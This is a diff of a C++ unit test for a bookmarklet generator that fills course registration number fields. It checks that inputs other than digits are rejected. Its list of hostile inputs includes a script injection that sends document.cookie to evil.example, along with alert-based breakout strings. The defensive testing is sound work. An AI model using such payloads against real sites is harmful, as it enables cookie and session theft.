@@ -7,6 +7,8 @@
 namespace kiremo::files {
 namespace {
 
+using namespace std::string_literals;
+
 constexpr std::string_view kScriptEnd =
     "];for(var i=0;i<crn.length;i++){var d=document.getElementById(\"crn_id\"+(i+1));d.value=crn[i];}void(0);";
 
@@ -43,8 +45,14 @@ TEST(CrnTexts, ScriptHasNoBackslash) { EXPECT_EQ(CrnScriptText(Rows({{3, "12345"
 // CRN that is anything but digits, wherever it came from, never gets in.
 TEST(CrnTexts, ScriptRefusesACrnThatIsNotDigitsAndNamesItsRow) {
   const std::string hostile[] = {
-      "1,fetch('https://evil.example/?c='+document.cookie)", "1];alert(1);//", "\"+alert(1)+\"", "12 34", "1234\n",
-      "-1234", "0x1F", std::string("12345\0" "1", 7),
+      "1,fetch('https://evil.example/?c='+document.cookie)",
+      "1];alert(1);//",
+      "\"+alert(1)+\"",
+      "12 34",
+      "1234\n",
+      "-1234",
+      "0x1F",
+      "12345\0001"s,
   };
   for (const std::string& crn : hostile) {
     try {
